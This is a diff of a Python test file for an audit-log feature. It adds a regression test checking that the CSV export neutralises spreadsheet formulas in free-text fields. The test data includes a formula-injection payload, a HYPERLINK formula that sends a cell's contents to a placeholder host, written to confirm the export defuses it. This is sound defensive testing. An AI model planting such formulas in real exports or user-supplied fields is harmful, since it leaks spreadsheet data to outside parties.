@@ -57,7 +57,10 @@ def test_an_empty_read_is_not_logged(db):
 
 
 def test_province_officer_filters_the_audit_page_and_bulk_reads_stand_out(personas, login):
-    log_personal_read(object_type="people.person", object_ids=[str(i) for i in range(60)])
+    from sodsong.core.context import acting_for
+
+    with acting_for(personas.district):  # a reader of the province: the province admin sees it
+        log_personal_read(object_type="people.person", object_ids=[str(i) for i in range(60)])
     client = login(personas.province)
     page = client.get("/audit/?bulk=1")
     assert page.status_code == 200
@@ -97,3 +100,21 @@ def test_audit_api_is_for_provincial_admins_only(personas, client):
     )
     assert refused.status_code == 403
     assert refused.json()["error"]["code"] == "forbidden"
+
+
+def test_the_audit_export_neutralises_formulas_in_free_text(personas, login):
+    """#17 M10: a purpose such as =HYPERLINK(…) reached the CSV as a live formula."""
+    import csv
+    import io
+
+    from sodsong.core.context import acting_for
+
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    with acting_for(personas.province):
+        log_action(action="read", object_type="people.person", object_ids=["a"], purpose=evil)
+    response = login(personas.province).get("/audit/export.csv?purpose=-2%2B3")
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(content)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + evil in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
